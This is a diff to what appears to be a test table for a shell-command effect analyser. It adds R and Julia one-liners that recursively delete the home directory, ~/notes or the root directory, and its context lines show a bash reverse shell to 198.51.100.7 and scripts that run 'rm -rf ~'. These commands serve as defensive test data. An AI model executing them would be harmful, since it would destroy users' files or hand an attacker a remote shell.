@@ -329,6 +329,14 @@ EFFECTS = [
     ('bash -i >& /dev/tcp/198.51.100.7/80 0>&1', ['send remote /dev/tcp/198.51.100.7/80 certain', 'reverse-shell remote /dev/tcp/198.51.100.7/80 certain']),
     ('{ echo a; } > ~/f', ['overwrite home-item /home/dev/f certain']),
     ('while a; do b; done > ~/f', ['overwrite home-item /home/dev/f certain']),
+    # R and Julia
+    ("Rscript -e 'd <- path.expand(\"~\")' -e 'unlink(d, recursive = TRUE)'", ['delete home /home/dev certain']),
+    ("R --slave -e 'system(\"rm -rf ~/notes\")'", ['delete home-item /home/dev/notes certain']),
+    ("R --vanilla <<'X'\nunlink('~/notes', recursive = TRUE)\nX", ['delete home-item /home/dev/notes certain']),
+    ("R CMD INSTALL .", []),
+    ("echo 'rm(\"/\", recursive=true)' > a.jl; julia a.jl", ['overwrite project /home/dev/work/shop/a.jl certain', 'delete root / certain']),
+    ("echo 'unlink(\"b\")' > a.R; R CMD BATCH a.R", ['overwrite project /home/dev/work/shop/a.R certain', 'delete project /home/dev/work/shop/b certain']),
+    ("julia --project=. -e 'rm(homedir(); recursive=true)'", ['delete home /home/dev certain']),
     # scripts written here and run
     ("echo 'rm -rf ~' > /tmp/a.sh; sh /tmp/a.sh", ['overwrite temp /tmp/a.sh certain', 'delete home /home/dev certain']),
     ("echo 'rm -rf ~' > a.sh; chmod +x a.sh; ./a.sh", ['overwrite project /home/dev/work/shop/a.sh certain', 'delete home /home/dev certain']),
